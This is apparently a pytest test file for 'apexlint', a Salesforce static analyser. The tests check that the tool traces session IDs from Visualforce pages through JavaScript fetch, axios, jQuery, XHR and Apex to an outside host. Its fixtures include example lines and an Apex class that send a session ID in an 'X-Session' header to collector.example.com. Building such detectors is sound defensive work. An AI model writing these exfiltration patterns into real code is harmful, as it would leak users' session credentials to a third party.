"""A script's request of a package page that renders the session (AG-8): the response stands for
that page's session (`ir.page_response`), followed through the script and into the Apex it is
passed to, and resolved against the pages the package holds (`PackageModel.page_response_sessions`)."""

from __future__ import annotations

from pathlib import Path

from apexlint.engine import ScanOptions, scan
from apexlint.findings import Finding
from apexlint.ir import FileIR, FileKind, page_response
from apexlint.lower.javascript import lower_javascript
from apexlint.lower.visualforce import lower_visualforce
from apexlint.model.package import PackageModel
from apexlint.read.decode import read_source

LWC = "force-app/main/default/lwc/reader/reader.js"
RESOURCE = "force-app/main/default/staticresources/reader.js"
AURA = "force-app/main/default/aura/Reader/ReaderController.js"
EXTERNAL = "fetch('https://collector.example.com/in', { headers: { 'X-Session': %s } });\n"


def lower(code: str, path: str = RESOURCE) -> FileIR:
    src, _ = read_source(path, code.encode("utf-8"), "")
    assert src is not None
    return lower_javascript(src)


def sent(ir: FileIR) -> set[str]:
    """The stand-ins and sessions the script's requests to collector.example.com carry."""
    return {s for u in ir.url_uses if "collector.example.com" in u.url for s in u.sources}


def page(path: str, markup: str) -> FileIR:
    kind = FileKind.VISUALFORCE_COMPONENT if path.endswith(".component") else FileKind.VISUALFORCE_PAGE
    src, _ = read_source(path, markup.encode("utf-8"), "")
    assert src is not None
    return lower_visualforce(src, kind)


def test_fetch_text_json_parse_and_a_credential_named_property_carry_the_page_response() -> None:
    ir = lower("async function go() {\n"
               "  const res = await fetch('/apex/ApiSession', { credentials: 'same-origin' });\n"
               "  const data = JSON.parse((await res.text()).trim());\n"
               "  " + EXTERNAL % "data.sid" + "}\n")
    assert sent(ir) == {page_response("ApiSession", "fetch")}


def test_then_callbacks_carry_the_response_to_what_they_return() -> None:
    ir = lower("fetch('/apex/ns__ApiSession?x=1').then(r => r.json()).then(d => {\n"
               "  " + EXTERNAL % "d.sessionId" + "});\n")
    assert sent(ir) == {page_response("ns__ApiSession", "fetch")}


def test_the_page_named_by_concatenation_or_after_the_pages_own_origin_is_read() -> None:
    ir = lower("async function go() {\n"
               "  const r = await fetch(window.location.origin + '/apex/' + 'ApiSession');\n"
               "  const d = await r.json();\n"
               "  " + EXTERNAL % "d.sid" + "}\n")
    assert sent(ir) == {page_response("ApiSession", "fetch")}


def test_another_hosts_page_or_a_page_not_known_is_no_response_of_the_package() -> None:
    for url in ("'https://other.example.com/apex/ApiSession'", "'/apex/' + name", "base + '/apex/ApiSession'"):
        ir = lower("async function go(name, base) {\n"
                   f"  const d = await (await fetch({url})).json();\n"
                   "  " + EXTERNAL % "d.sid" + "}\n")
        assert sent(ir) == set(), url


def test_a_property_not_named_for_a_credential_carries_nothing_of_the_response() -> None:
    ir = lower("async function go() {\n"
               "  const res = await fetch('/apex/ApiSession');\n"
               "  " + EXTERNAL % "res.status" + "}\n")
    assert sent(ir) == set()


def test_axios_holds_the_response_as_data() -> None:
    ir = lower("import axios from 'axios';\n"
               "async function go() {\n"
               "  const res = await axios.get('/apex/ApiSession');\n"
               "  " + EXTERNAL % "res.data.sid" + "}\n", LWC)
    assert sent(ir) == {page_response("ApiSession", "axios.get")}


def test_jquery_callbacks_and_xhr_response_text_carry_the_response() -> None:
    ir = lower("$.get('/apex/ApiSession', function (data) {\n"
               "  " + EXTERNAL % "data.sid" + "});\n"
               "var xhr = new XMLHttpRequest();\n"
               "xhr.open('GET', '/apex/Other');\n"
               "xhr.onload = function () {\n"
               "  " + EXTERNAL % "JSON.parse(xhr.responseText).token" + "};\n"
               "xhr.send();\n")
    assert sent(ir) == {page_response("ApiSession", "$.get"), page_response("Other", "XMLHttpRequest")}
    ir = lower("$.ajax({ url: '/apex/ApiSession', dataType: 'json', success: function (data) {\n"
               "  " + EXTERNAL % "data.sid" + "} });\n")
    assert sent(ir) == {page_response("ApiSession", "$.ajax")}


def test_an_aura_controller_reading_a_page_is_followed() -> None:
    ir = lower("({ go: function (component, event, helper) {\n"
               "  fetch('/apex/ApiSession').then(function (r) { return r.json(); }).then(function (d) {\n"
               "    " + EXTERNAL % "d.sid" + "  });\n"
               "} })\n", AURA)
    assert sent(ir) == {page_response("ApiSession", "fetch")}


def test_an_lwc_records_the_response_it_passes_an_imported_apex_method_by_parameter() -> None:
    ir = lower("import relay from '@salesforce/apex/Relay.relay';\n"
               "export default class Reader {\n"
               "  async connectedCallback() {\n"
               "    const data = await (await fetch('/apex/ApiSession')).json();\n"
               "    await relay({ apiSessionId: data.sid, note: 'x' });\n"
               "  }\n"
               "}\n", LWC)
    assert ir.apex_args == (("relay.relay", "apisessionid", page_response("ApiSession", "fetch")),)


def test_json_parse_carries_a_scripts_own_session_rather_than_losing_it() -> None:
    ir = lower("var box = JSON.parse(sforce.connection.sessionId);\n" + EXTERNAL % "box.value")
    assert len(sent(ir)) == 1
    assert [c.callee for c in ir.unfollowed_calls if c.callee == "JSON.parse"] == []


def test_a_script_naming_no_page_is_not_walked_for_responses() -> None:
    ir = lower("import getItems from '@salesforce/apex/Items.get';\n"
               "export default class Reader { go() { return getItems(); } }\n", LWC)
    assert ir.url_uses == () and ir.apex_args == ()


def test_the_package_resolves_a_response_to_the_sessions_the_page_renders() -> None:
    model = PackageModel.build([
        page("pages/ApiSession.page", '<apex:page contentType="application/json">{"sid":"{!$Api.Session_ID}"}'
                                      "<c:Token/></apex:page>"),
        page("components/Token.component", "<apex:component>{!$Api.Session_ID}</apex:component>"),
        page("pages/Plain.page", '<apex:page contentType="application/json">{"ok":true}</apex:page>'),
    ], "acme")
    own = model.page_response_sessions(page_response("ApiSession", "fetch"), "lwc/reader/reader.js")
    assert sorted(s.rpartition("/")[2].split(":")[0] for s in own) == ["ApiSession.page", "Token.component"]
    assert set(own.values()) == {"rendered by Visualforce page ApiSession, read by reader.js with fetch"}
    assert set(model.page_response_sessions(page_response("acme__ApiSession", "fetch"), "r.js")) == set(own)
    assert model.page_response_sessions(page_response("other__ApiSession", "fetch"), "r.js") == {}
    assert model.page_response_sessions(page_response("Plain", "fetch"), "r.js") == {}
    assert model.page_response_sessions(page_response("Missing", "fetch"), "r.js") == {}


_RELAY = """public with sharing class Relay {
    @AuraEnabled
    public static void relay(String note, String apiSessionId) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://collector.example.com/in');
        req.setMethod('POST');
        req.setHeader('X-Session', apiSessionId);
        new Http().send(req);
    }
}
"""
_SESSION_PAGE = '<apex:page contentType="application/json">{"sid":"{!$Api.Session_ID}"}</apex:page>\n'


def _scan_package(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
    for rel, text in {"sfdx-project.json": '{"packageDirectories": [{"path": "force-app", "default": true}]}',
                      "force-app/main/default/classes/Relay.cls": _RELAY,
                      "force-app/main/default/pages/ApiSession.page": _SESSION_PAGE, **files}.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(text, encoding="utf-8")
    return list(scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1)).findings)


def test_an_aura_action_given_the_response_sends_the_pages_session_and_says_how(tmp_path: Path) -> None:
    findings = _scan_package(tmp_path, {
        "force-app/main/default/aura/Relayer/Relayer.cmp": '<aura:component controller="Relay"/>\n',
        "force-app/main/default/aura/Relayer/RelayerController.js":
            "({ go: function (component) {\n"
            "  fetch('/apex/ApiSession').then(function (r) { return r.json(); }).then($A.getCallback(function (d) {\n"
            "    var action = component.get('c.relay');\n"
            "    action.setParams({ note: 'x', apiSessionId: d.sid });\n"
            "    $A.enqueueAction(action);\n"
            "  }));\n"
            "} })\n",
    })
    assert [(f.rule_id, f.location.span.start_line) for f in findings] == [("SID002", 8)]
    assert "at ApiSession.page:1, rendered by Visualforce page ApiSession, read by RelayerController.js with " \
           "fetch, passed to Relay.relay, is sent in the header 'X-Session'" in findings[0].message


def test_a_page_whose_response_is_only_tested_keeps_its_unused_session(tmp_path: Path) -> None:
    findings = _scan_package(tmp_path, {
        "force-app/main/default/lwc/checker/checker.js":
            "import relay from '@salesforce/apex/Relay.relay';\n"
            "export default class Checker {\n"
            "  async go() {\n"
            "    const d = await (await fetch('/apex/ApiSession')).json();\n"
            "    return d.sid ? relay({ note: 'signed in' }) : null;\n"
            "  }\n"
            "}\n",
    })
    assert [(f.rule_id, f.location.path.rpartition("/")[2]) for f in findings] == [("SID011", "ApiSession.page")]
